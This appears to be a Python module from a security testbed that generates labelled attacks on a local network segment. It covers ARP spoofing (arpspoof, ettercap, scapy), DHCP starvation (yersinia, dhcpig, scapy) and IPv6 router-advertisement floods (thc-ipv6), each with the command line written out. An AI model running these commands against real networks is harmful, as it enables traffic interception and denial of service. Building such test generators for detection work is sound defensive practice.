"""Attacks on the own segment: forged ARP, DHCP and router advertisements. Their tools write frames, so evidence names them
by hardware address."""

from testbed.attacks.material import maybe, program, segment, words
from testbed.catalogue import Assault, Evidence, attack

SPOOFING = "T1557.002"
EXHAUSTION = "T1499"
BOX = ("intruder",)


def pair(c) -> tuple[str, str]:
    """Two neighbours to stand between; one of them may be the segment's router."""
    near = [host.address for host in c.network.hosts.values()
            if host.segment == c.host.segment and host is not c.host and host.role in ("client", "server")]
    victim = c.random.choice(near)
    router = str(next(segment(c).hosts()))
    return victim, c.random.choice([router, router] + [address for address in near if address != victim])


def own_frames(c) -> tuple[Evidence, ...]:
    return (Evidence("arp", (c.host.mac,)),)


@attack("arp_spoof", technique=SPOOFING, tool="arpspoof", origins=BOX, packages=("dsniff",), seconds=35)
def arpspoof(c):
    victim, peer = pair(c)
    return Assault(words(f"timeout -s INT -k 8 {c.between(8, 20)} arpspoof -i", c.host.device, maybe(c, 0.6, "-r"),
                         f"-c {c.choose('own', 'host', 'both')} -t {victim} {peer}"), evidence=own_frames(c))


@attack("arp_spoof", technique=SPOOFING, tool="ettercap", origins=BOX, packages=("ettercap-text-only",), seconds=35)
def ettercap(c):
    victim, peer = pair(c)
    return Assault(f"timeout -s INT -k 8 {c.between(10, 20)} ettercap -T -q -i {c.host.device} -M"
                   f" arp:{c.choose('remote', 'oneway', 'remote')} /{victim}// /{peer}//", evidence=own_frames(c))


@attack("arp_spoof", technique=SPOOFING, tool="scapy", origins=BOX, packages=("python3-scapy",), seconds=35)
def forged_arp(c):
    victim, peer = pair(c)
    return Assault(program("forge.py", "arp", "--interface", c.host.device, "--victim", victim, "--peer", peer, "--count",
                           c.between(6, 40), "--pause", c.between(0.2, 2.0), c.choose("--both", ""),
                           c.choose("--request", "")), evidence=own_frames(c))


@attack("dhcp_starvation", technique=EXHAUSTION, tool="scapy", origins=BOX, needs=("dhcp",), packages=("python3-scapy",),
        seconds=30)
def forged_dhcp(c):
    return Assault(program("forge.py", "dhcp", "--interface", c.host.device, "--count", c.between(15, 50), "--pause",
                           c.between(0.03, 0.4), "--seed", c.between(1, 10**6), "--vendor",
                           c.choose("00:0c:29", "08:00:27", "52:54:00", "de:ad:be")), evidence=(Evidence("dhcp"),))


@attack("dhcp_starvation", technique=EXHAUSTION, tool="yersinia", origins=BOX, needs=("dhcp",), packages=("yersinia",),
        seconds=20)
def yersinia(c):
    # It sends as fast as it can, so it gets a tenth of a second at a time.
    return Assault(f"for round in $(seq {c.between(1, 3)}); do timeout -s KILL {c.between(0.08, 0.15)} yersinia dhcp -attack 1"
                   f" -interface {c.host.device} < <(sleep 1) >/dev/null 2>&1; sleep {c.between(0.5, 3.0)}; done",
                   evidence=(Evidence("dhcp"),))


@attack("dhcp_starvation", technique=EXHAUSTION, tool="dhcpig", origins=BOX, needs=("dhcp",), packages=("dhcpig",), seconds=30)
def dhcpig(c):
    return Assault(f"timeout -s INT -k 2 {c.between(8, 20)} dhcpig -c -v0 -n -a -l -r -x {c.between(1, 8)}"
                   f" -y {c.between(1, 3)} {c.host.device}", evidence=(Evidence("dhcp"),))


def advertisements(c) -> tuple[Evidence, ...]:
    return (Evidence("icmp6", ports=(134,)),)


@attack("ipv6_ra_flood", technique=EXHAUSTION, tool="flood_router26", origins=BOX, packages=("thc-ipv6",), seconds=20)
def flood_routers(c):
    # It sends as fast as it can, so it gets a few hundredths of a second at a time.
    tool = c.choose("atk6-flood_router26", "atk6-flood_router26 -s", "atk6-flood_router26 -S", "atk6-flood_router6")
    return Assault(f"for round in $(seq {c.between(2, 5)}); do timeout -s KILL {c.between(0.03, 0.08)} {tool} {c.host.device}"
                   f" >/dev/null 2>&1; sleep {c.between(0.3, 3.0)}; done", evidence=advertisements(c))


@attack("ipv6_ra_flood", technique=EXHAUSTION, tool="scapy", origins=BOX, packages=("python3-scapy",), seconds=30)
def forged_routers(c):
    return Assault(program("forge.py", "router", "--interface", c.host.device, "--count", c.between(40, 400), "--pause",
                           c.between(0.005, 0.1), "--seed", c.between(1, 10**6), "--vendor",
                           c.choose("00:0c:29", "08:00:27", "52:54:00")), evidence=advertisements(c))


@attack("ipv6_ra_flood", technique=EXHAUSTION, tool="fake_router26", origins=BOX, packages=("thc-ipv6",), seconds=30)
def fake_router(c):
    prefix = f"2001:db8:{c.between(1, 9999)}::/64"
    return Assault(f"timeout -s INT {c.between(6, 18)} atk6-fake_router26 -A {prefix} -i {c.between(1, 3)}"
                   f" -p {c.choose('low', 'medium', 'high')} {c.host.device}", evidence=advertisements(c))
